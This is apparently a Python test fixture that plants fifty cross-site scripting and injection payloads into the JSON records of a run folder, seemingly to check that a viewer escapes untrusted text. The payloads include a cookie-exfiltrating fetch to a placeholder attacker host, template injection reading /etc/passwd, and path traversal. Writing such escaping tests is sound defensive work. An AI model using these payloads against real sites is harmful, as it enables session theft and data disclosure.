"""What a model, a tool or a data set could write to make a browser run it, and a run folder that is full of it."""

import json
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

INJECTIONS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    "</script><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</title><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>",
    "</pre></code><script>alert(6)</script>",
    "--><script>alert(7)</script><!--",
    "]]><script>alert(8)</script>",
    "<script>fetch('http://evil.invalid/'+document.cookie)</script>",
    "<img src=x onerror=alert(11)>",
    "<img src=http://evil.invalid/pixel.png>",
    "<svg onload=alert(13)>",
    "<svg><script>alert(14)</script></svg>",
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(16)'><text y=20>x</text></a></svg>",
    "<body onload=alert(17)>",
    "<iframe src=javascript:alert(18)></iframe>",
    "<iframe srcdoc='<script>alert(19)</script>'></iframe>",
    "<object data=javascript:alert(20)></object>",
    "<embed src=http://evil.invalid/x.swf>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<style>@import 'http://evil.invalid/y.css';</style>",
    "<style>body{background:url(http://evil.invalid/z.png)}</style>",
    "<base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(27)'>",
    "<form action=http://evil.invalid/><input name=q autofocus onfocus=alert(28)></form>",
    "<input autofocus onfocus=alert(29)>",
    "<details open ontoggle=alert(30)><summary>x</summary></details>",
    "<video src=x onerror=alert(31)></video>",
    "<audio src=http://evil.invalid/a.mp3 autoplay></audio>",
    "<marquee onstart=alert(33)>x</marquee>",
    "<a href=javascript:alert(34) autofocus>click</a>",
    "<math><mtext><script>alert(35)</script></mtext></math>",
    "<template><script>alert(36)</script></template>",
    "<dialog open onclose=alert(37)>x</dialog>",
    '" autofocus onfocus=alert(38) x="',
    "' autofocus onfocus='alert(39)",
    '"><script>alert(40)</script>',
    "'><img src=x onerror=alert(41)>",
    "javascript:alert(42)",
    "data:text/html,<script>alert(43)</script>",
    "{{ cycler.__init__.__globals__ }}{% include '/etc/passwd' %}",
    "${alert(45)}`${alert(45)}`",
    "&lt;script&gt;alert(46)&lt;/script&gt;&#60;script&#62;alert(46)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(47)\\u003c/script\\u003e",
    "<scr\x00ipt>alert(48)</scr\x00ipt>\x1b[31m\u202e\u2028alert(48)",
    '<noscript><p title="</noscript><script>alert(49)</script>"></noscript>',
    "../../../etc/passwd?x=<script>alert(50)</script>#<img src=x onerror=alert(50)>",
)
"""Fifty of them."""
TEXTS = {"text", "reason", "arguments", "thinking", "policy", "answers", "passages", "tokens", "remark"}
"""Fields of records that hold words from outside."""
NAMES = {"id", "trajectory"}
"""Fields that name a question or a trajectory: the same in all files."""


def plant(run: Path) -> None:
    """Put them into everything in a run folder that others have written: questions, ids, actions, results, reasons, sampled actions."""
    payloads = cycle(INJECTIONS)
    names: dict[str, str] = {}
    for path in [*run.glob("*.jsonl"), *run.glob("train/*.jsonl"), *run.glob("evaluation/*.jsonl")]:
        if path.name == "calls.jsonl":
            continue
        rows = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
        path.write_text("".join(json.dumps(_planted(row, payloads, names)) + "\n" for row in rows), "utf-8")
    selection = run / "selection.json"
    selection.write_text(json.dumps(_planted(json.loads(selection.read_text("utf-8")), payloads, names)), "utf-8")


def _planted(value: Any, payloads: Iterator[str], names: dict[str, str], field: str = "") -> Any:
    if isinstance(value, dict):
        ours = "policy" if "grade" in value else ""  # of an evaluated answer: before or after
        return {key: each if key == ours else _planted(each, payloads, names, key) for key, each in value.items()}
    if isinstance(value, list):
        return [_planted(each, payloads, names, field) for each in value]
    if isinstance(value, str) and field in NAMES:
        return names.setdefault(value, f"{next(payloads)}{value}")
    return f"{value}{next(payloads)}" if isinstance(value, str) and field in TEXTS else value
